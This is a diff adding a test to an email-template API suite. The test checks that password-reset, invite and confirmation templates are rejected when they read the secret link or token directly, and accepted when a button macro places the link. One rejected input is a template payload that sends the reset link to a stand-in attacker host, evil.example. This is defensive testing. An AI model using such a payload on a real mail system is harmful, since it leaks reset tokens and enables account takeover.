@@ -49,6 +49,22 @@ it('a preview shows an unsaved template, and explains why a template cannot be r
   expect(stored.body).toMatchObject({ items: [] });
 });
 
+it.each(['email.password.reset', 'email.user.invited', 'email.confirmation'])(
+  'a template of %s positions the link, but is refused if it reads it',
+  async (platformType) => {
+    const { api } = await aTenant();
+    const save = (body: string) =>
+      api.put(`/api/email/templates/${platformType}`, { body: { subject: 'Look', body } });
+    for (const body of ['{{ link }}', 'https://evil.example/?x={{ link | url_encode }}', '{{ token }}'])
+      expect(await save(body)).toMatchObject({ status: 400, body: { details: [{ field: 'body' }] } });
+    const own = 'Dear reader,\n{% button "Here" %}\nBye';
+    expect((await save(own)).status).toBe(200);
+    const { body } = await api.post<Preview>('/api/email/preview', { body: { type: platformType } });
+    expect(body.text).toMatch(/^Dear reader,\n\nHere:\nhttps?:\/\/\S+\?token=example\n\nBye\n/);
+    expect(body.html).toMatch(/<a href="[^"]+\?token=example"[^>]*>Here<\/a>/);
+  },
+);
+
 it('a page of templates that is too large for one response is refused with a page size that fits', async () => {
   const caller = await aTenant();
   const template = { subject: 'x', body: '"'.repeat(10_000), updatedAtMs: Date.now(), revision: 1 };
